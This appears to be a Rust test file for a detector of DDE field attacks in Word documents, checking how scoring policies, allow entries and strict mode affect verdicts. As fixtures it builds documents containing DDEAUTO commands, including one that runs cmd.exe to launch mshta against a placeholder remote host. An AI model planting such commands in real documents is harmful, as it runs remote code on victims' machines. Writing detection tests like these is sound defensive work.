//! What a policy can do, and what it cannot (ARCHITECTURE.md, law 10).

mod support;

use std::path::Path;

use ddetect::{Analyzer, Options, Policy, Report, Verdict};
use support::docx::{begin, docx, end, instruction, paragraph, separate};

const COMMAND: &str = r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe""#;

fn document(text: &str) -> Vec<u8> {
    let field = begin() + &instruction(text) + &separate() + &end();
    docx(&paragraph(&field)).build()
}

fn analyze(bytes: &[u8], policy: Policy) -> Report {
    Analyzer::new(Options::default().policy(policy)).analyze(bytes)
}

/// The ids of all rules, as their page lists them.
fn rules() -> Vec<String> {
    let page = Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/rules.md");
    let page = std::fs::read_to_string(page).unwrap();
    let rows = page.lines().filter_map(|line| line.strip_prefix("| `"));
    let ids: Vec<_> = rows
        .filter_map(|row| Some(row.split_once('`')?.0.to_owned()))
        .collect();
    assert!(ids.len() > 60);
    ids
}

/// Policies that do their worst to every finding.
fn hostile() -> Vec<Policy> {
    let all = |change: &dyn Fn(Policy, &str) -> Policy| {
        let rules = rules();
        rules
            .iter()
            .fold(Policy::default(), |policy, rule| change(policy, rule))
    };
    vec![
        all(&|policy, rule| policy.disable(rule).unwrap()),
        all(&|policy, rule| policy.weight(rule, -1_000_000).unwrap()),
        all(&|policy, rule| policy.weight(rule, i32::MIN).unwrap()),
        Policy::default()
            .malicious_from(u8::MAX)
            .suspicious_from(u8::MAX),
        Policy::default().malicious_from(0).suspicious_from(0),
        all(&|policy, rule| policy.weight(rule, 0).unwrap())
            .malicious_from(u8::MAX)
            .suspicious_from(u8::MAX),
    ]
}

#[test]
fn no_policy_lowers_malicious_below_suspicious() {
    let bytes = document(COMMAND);
    assert_eq!(
        analyze(&bytes, Policy::default()).verdict(),
        Verdict::Malicious
    );
    for policy in hostile() {
        let report = analyze(&bytes, policy.clone());
        assert!(report.verdict() >= Verdict::Suspicious, "{policy:?}");
        assert_eq!(report.findings().len(), 1);
    }
}

#[test]
fn an_allow_entry_takes_one_finding_out_and_leaves_it_visible() {
    let bytes = document(COMMAND);
    let fingerprint = analyze(&bytes, Policy::default()).findings()[0]
        .fingerprint
        .clone();
    let report = analyze(&bytes, Policy::default().allow(&fingerprint));
    assert_eq!(report.verdict(), Verdict::Clean);
    assert!(report.findings()[0].allowed);
    // It names one command, not all of them.
    let other = document(r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/k mshta http://x.example""#);
    let report = analyze(&other, Policy::default().allow(&fingerprint));
    assert_eq!(report.verdict(), Verdict::Malicious);
}

#[test]
fn no_policy_touches_gaps() {
    let archive = b"7z\xbc\xaf\x27\x1c of a kind that is not opened";
    let plain = analyze(archive, Policy::default());
    assert_eq!(plain.verdict(), Verdict::Incomplete);
    for policy in hostile().into_iter().chain([Policy::strict()]) {
        let report = analyze(archive, policy);
        assert_eq!(report.verdict(), Verdict::Incomplete);
        assert_eq!(report.gaps(), plain.gaps());
    }
}

#[test]
fn strict_makes_every_dde_link_suspicious() {
    for instruction in ["DDE BLP M", "DDE Excel C:\\\\a.xlsx R1C1"] {
        let bytes = document(instruction);
        let plain = analyze(&bytes, Policy::default());
        assert_eq!(plain.verdict(), Verdict::Clean, "{plain:#?}");
        let strict = analyze(&bytes, Policy::strict());
        assert_eq!(strict.verdict(), Verdict::Suspicious);
        let signals = &strict.findings()[0].signals;
        assert!(signals.iter().any(|signal| signal.rule == "strict-mode"));
    }
    // Nothing else changes.
    let command = analyze(&document(COMMAND), Policy::strict());
    assert_eq!(command.verdict(), Verdict::Malicious);
    let page = document("HYPERLINK \"http://h.example/\"");
    assert_eq!(analyze(&page, Policy::strict()).verdict(), Verdict::Clean);
    assert_eq!(analyze(b"text", Policy::strict()).verdict(), Verdict::Clean);
}

#[test]
fn lines_move_both_ways_within_their_bounds() {
    let feed = document("DDE tool topic");
    let score = analyze(&feed, Policy::default()).score();
    assert!((1..50).contains(&score), "{score}");
    let verdict = |policy: Policy| analyze(&feed, policy).verdict();
    assert_eq!(verdict(Policy::default()), Verdict::Clean);
    assert_eq!(
        verdict(Policy::default().suspicious_from(score)),
        Verdict::Suspicious
    );
    assert_eq!(
        verdict(Policy::default().suspicious_from(score + 1)),
        Verdict::Clean
    );
    let command = document(COMMAND);
    let report = analyze(&command, Policy::default().malicious_from(101));
    assert_eq!(report.verdict(), Verdict::Suspicious);
}
